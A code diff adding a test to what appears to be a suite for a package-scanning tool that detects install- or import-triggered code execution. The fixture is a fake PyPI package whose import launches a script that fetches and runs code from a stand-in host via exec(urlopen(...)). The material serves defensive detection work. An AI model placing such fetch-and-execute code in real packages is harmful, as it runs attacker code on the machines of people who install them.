@@ -62,6 +62,14 @@ describe('JavaScript', () => {
     expect(found.actions.find(({ kind }) => kind === 'execute')).toMatchObject({ from: ['decoded'], trigger: { kind: 'call', file: 'a.js' } })
   })
 
+  it('follows a command of its own that it starts by name, when only `#!python` says what it is', () => {
+    const { pkg } = packageOf({ says: '', ecosystem: 'pypi', triggers: [{ kind: 'import', name: 'p', file: 'p/__init__.py' }, { kind: 'command', name: 'tool', file: 'p-1.data/scripts/tool' }], files: {
+      'p/__init__.py': `import os\nos.system('tool --now')`, 'p-1.data/scripts/tool': `#!python\nimport urllib.request\nexec(urllib.request.urlopen('https://a.example').read())`,
+    } })
+    expect(byItself(gatherFacts(pkg))).toContain('execute<fetched> exec null')
+    expect(gatherFacts(pkg).actions.find(({ kind }) => kind === 'execute')?.trigger.kind).toBe('import')
+  })
+
   it('survives imports in a circle', () => {
     expect(js(`require('./b'); eval(atob('eA=='))`, { 'b.js': `require('./a')` }).actions.some((action) => action.kind === 'execute')).toBe(true)
   })
